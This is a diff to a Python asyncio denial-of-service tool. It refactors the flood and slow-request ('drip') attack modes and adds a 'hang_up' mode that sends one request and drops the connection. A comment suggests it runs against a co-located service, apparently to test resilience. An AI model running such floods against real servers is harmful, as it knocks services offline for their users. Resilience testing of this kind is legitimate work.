@@ -26,7 +26,7 @@ PAUSE = 10.0
 PAUSE_OF_FLOOD = 0.05
 ANSWER_SECONDS = 30.0
 CONNECTING = 100
-GREETED = b"HTTP/1.1 101"
+LOWEST_PRIORITY = 19
 
 
 @dataclass(frozen=True, slots=True)
@@ -58,6 +58,9 @@ class Attack:
         self.done = 0
         self.answers: Counter[int] = Counter()
         self._connecting = asyncio.Semaphore(CONNECTING)
+        flood = FLOODS.get(job.kind)
+        self._pause = PAUSE if flood is None else PAUSE_OF_FLOOD if flood.waits else 0.0
+        self._act = ATTACKS.get(job.kind, Attack.flood if self._pause else Attack.hang_up)
 
     async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
         connection = socket.socket()
@@ -79,12 +82,11 @@ class Attack:
             with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                 reader, writer = await self.connect()
                 try:
-                    await ATTACKS.get(self.job.kind, Attack.flood)(self, reader, writer)
+                    await self._act(self, reader, writer)
                 finally:
                     writer.close()
             self.done += 1
-            pause = PAUSE_OF_FLOOD if self.job.kind in FLOODS else PAUSE
-            await asyncio.sleep(pause * (0.5 + random.random()))
+            await asyncio.sleep(self._pause * (0.5 + random.random()))
 
     async def drip(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         """A request that never ends, a header a second."""
@@ -117,7 +119,7 @@ class Attack:
 
     async def flood(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
         """One request after the other, as fast as they are answered, on one connection."""
-        _, requests = FLOODS[self.job.kind]
+        requests = FLOODS[self.job.kind].requests
         while True:
             answer = asyncio.ensure_future(reader.readuntil(b"\r\n\r\n"))
             try:
@@ -135,6 +137,13 @@ class Attack:
             at = head.find(b"content-length: ") + 16
             if at > 15:
                 await reader.readexactly(int(head[at : head.index(b"\r", at)]))
+
+    async def hang_up(self, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        """One request, and the end of the connection right behind it."""
+        for piece in FLOODS[self.job.kind].requests(self.job.token):
+            writer.write(piece)
+        self.answers[0] += 1
+        await writer.drain()
 
     async def _send(
         self,
@@ -176,5 +185,6 @@ async def attack(job: Job) -> None:
 
 
 if __name__ == "__main__":
-    os.nice(10)  # an attacker has a machine of its own: here it must not take the service's
+    # A real attacker has a machine of its own: here it must not take the service's CPU time.
+    os.setpriority(os.PRIO_PROCESS, 0, LOWEST_PRIORITY)
     uvloop.run(attack(Job(**json.loads(sys.stdin.readline()))))
